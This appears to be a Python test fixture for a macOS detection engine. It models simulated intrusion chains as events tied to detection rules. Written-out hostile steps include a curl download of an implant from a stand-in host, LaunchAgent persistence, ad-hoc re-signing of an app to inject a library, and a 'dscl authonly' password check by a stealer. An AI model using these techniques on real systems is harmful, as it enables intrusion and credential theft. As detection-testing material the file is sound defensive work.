"""Further chains after what is publicly known of intrusions. Names, hashes and addresses are invented."""

import dataclasses

from book import Book
from mac import AD_HOC, HARDENED, HOME, LAUNCHD, SHELL, TEMP, Library, Program, apple
from people import APPLESCRIPT, CODESIGN, CURL, LOOSE, LOOSE_KIT, SH, STANDARD_ADDITIONS, dropped

BOOK = Book()
SCENARIOS = BOOK.scenarios
BTM = apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
            "com.apple.backgroundtaskmanagementd")


def starts_again(mac, p, name):
    item = f"{HOME}/Library/LaunchAgents/{name}.plist"
    mac.write(p, item)
    mac.launch_item(mac.start(BTM, LAUNCHD, uid=0), item, p.program.path)


def plug_in_implant(mac):
    """An implant below /Users/Shared is fetched and run; it fetches its plug-ins as libraries, maps one after the other, and makes itself
    start again. Nobody has an inventory of what it brings."""
    path = "/Users/Shared/irc_loader/macircloader"
    curl = mac.start(CURL, SHELL, ["curl", "-so", path, "https://irc.example/l"])
    mac.begin()
    mac.write(curl, path)
    mac.wait()
    p = mac.start(dropped(path, born=None))
    for name in ("libscreen.dylib", "libkeys.dylib", "libcamera.dylib"):
        library = f"/Users/Shared/irc_loader/{name}"
        mac.write(p, library)
        mac.load(p, Library(library, is_known=False))
        mac.wait()
    starts_again(mac, p, "com.example.irc")
    return path


BOOK.sample("plug-in-implant", "Implant maps its plug-ins one after the other", plug_in_implant,
            [(["S15", "S15-persist"], "/Users/Shared/irc_loader/macircloader")], allow=["S24", "S15-weak"])


PHONE = Program("/Applications/Deskphone.app/Contents/MacOS/Deskphone", "com.example.deskphone", HARDENED, "DESKPH0NE1", jit="yes")
CODEC = "/Applications/Deskphone.app/Contents/Frameworks/Electron Framework.framework/Versions/A/Libraries/libffmpeg.dylib"


def right_team(mac):
    """A telephone application's update brings a library that was changed before its vendor signed it. Its signature is right, and no rule about
    signers can see anything in it. What can be seen comes after: the application writes a program without a team into the vendor's folder
    of the user's Library and starts it, and that deletes itself."""
    agent = HOME + "/Library/Application Support/Deskphone/UpdateAgent"
    mac.begin()
    p = mac.start(PHONE, LAUNCHD)
    mac.load(p, Library(CODEC, "signed", PHONE.team, "libffmpeg", born=-3600.0, is_known=False))
    mac.connect(p, "203.0.113.9", 443)
    mac.wait()
    mac.write(p, agent)
    mac.wait()
    mac.unlink(mac.start(dropped(agent, born=None), p), agent)
    return PHONE.path


def right_team_quiet(mac):
    """As the trojanised library of the right team, before its second stage: the application maps its library and connects to a machine that
    is not its vendor's. There is nothing in these events that would tell it from a good one. That nothing is found is the limit."""
    p = mac.start(PHONE, LAUNCHD)
    mac.load(p, Library(CODEC, "signed", PHONE.team, "libffmpeg", born=-3600.0))
    mac.wait()
    mac.connect(p, "203.0.113.9", 443)


BOOK.sample("right-team", "Trojanised library of the right team, and its second stage", right_team, [(["S12", "S12-weak"], PHONE.path)], allow=["S24"])
BOOK.benign("right-team-quiet", "Trojanised by the right team", "Trojanised library of the right team, and nothing after it", right_team_quiet)


def coding_task(mac):
    """A task for applicants, run by a Python that a vendor signed, writes a library under the name of a data file into a hidden folder, maps it
    and deletes it, and starts a shell."""
    python = Program("/Library/Frameworks/Python.framework/Versions/3.13/Resources/Python.app/Contents/MacOS/Python", "org.python.python", HARDENED,
                     "PYTH0NXMP1")
    p = mac.start(python, SHELL, ["python3", HOME + "/src/stock-task/main.py"])
    library = HOME + "/Public/.cache/data.idx"
    mac.write(p, library)
    mac.begin()
    mac.load(p, Library(library, "adhoc", identifier="data"))
    mac.wait()
    mac.unlink(p, library)
    mac.exit(mac.start(SH, p, ["sh", "-c", "sw_vers"]))
    return python.path


BOOK.sample("coding-task", "Coding task maps a hidden library and deletes it", coding_task,
            [(["S14"], "/Library/Frameworks/Python.framework/Versions/3.13/Resources/Python.app/Contents/MacOS/Python")], allow=["S09", "S09-library"])


def grabber(mac):
    """A program without a team, put below /Library as root, adds a library to a chat application, writes a load command into its main program
    and signs it anew without a team. The library maps when the application is started next."""
    mac.exit(mac.start(LOOSE, LAUNCHD))
    p = mac.start(dropped("/Library/protect/wsus/bin/goed", born=-900.0), LAUNCHD, uid=0)
    library = "/Applications/Larkspur.app/Contents/Frameworks/libLarkGrab.dylib"
    mac.write(p, library)
    mac.begin()
    mac.close(p, LOOSE.path)
    signer = mac.start(CODESIGN, p, ["codesign", "-fs", "-", "/Applications/Larkspur.app"])
    mac.close(signer, LOOSE.path)
    mac.wait()
    app = mac.start(dataclasses.replace(LOOSE, flags=AD_HOC, team=None, build="grabbed", born=mac.now, frameworks=None), LAUNCHD)
    mac.load(app, LOOSE_KIT)
    mac.load(app, Library(library, is_known=False))
    return LOOSE.path


BOOK.sample("grabber", "Chat application signed anew with a grabber's library", grabber, [(["S11"], LOOSE.path)],
            allow=["S11-exec", "S11-weak", "S10", "S10-weak", "S10-age"])


THIEF = dropped("/Volumes/Ledgerly/Ledgerly.app/Contents/MacOS/Ledgerly", born=-2 * 86400.0)


def thief(mac):
    """An application on a disk image runs AppleScript within itself, asks for the password, tries it with dscl, and packs what it has taken."""
    mac.begin()
    p = mac.start(THIEF, LAUNCHD)
    mac.load(p, APPLESCRIPT)
    mac.wait()
    mac.load(p, STANDARD_ADDITIONS)
    mac.exit(mac.start(apple("/usr/bin/dscl", "com.apple.dscl"), p, ["dscl", ".", "authonly", "robin", "x"]))
    mac.wait()
    mac.exit(mac.start(apple("/usr/bin/ditto", "com.apple.ditto"), p, ["ditto", "-c", "-k", "/tmp/o", "/tmp/o.zip"]))
    return THIEF.path


BOOK.sample("thief", "Thief runs a script within itself", thief, [(["S13"], THIEF.path)], allow=["S13-additions", "S13-engine", "S24"])


def in_memory(mac):
    """A false installer on a disk image leaves a program below /Library and starts it; that links its payload from memory and makes itself
    start again as a daemon. Its place is none where attackers are looked for first."""
    path = "/Library/mixednkey/toolroomd"
    setup = mac.start(dropped("/Volumes/Mixer/Install Mixer.app/Contents/MacOS/Install Mixer", born=-9000.0), LAUNCHD)
    mac.begin()
    mac.write(setup, path)
    mac.wait()
    p = mac.start(dropped(path, born=None), setup)
    bundle = TEMP + "/NSCreateObjectFileImageFromMemory-Rt6LpQ0a"
    mac.write(p, bundle)
    mac.load(p, Library(bundle, is_known=False))
    mac.unlink(p, bundle)
    mac.wait()
    starts_again(mac, p, "com.example.quest")
    return path


BOOK.sample("false-installer", "False installer's program links from memory", in_memory, [(["S01"], "/Library/mixednkey/toolroomd")],
            allow=["S24", "S15", "S15-persist", "S15-weak"])
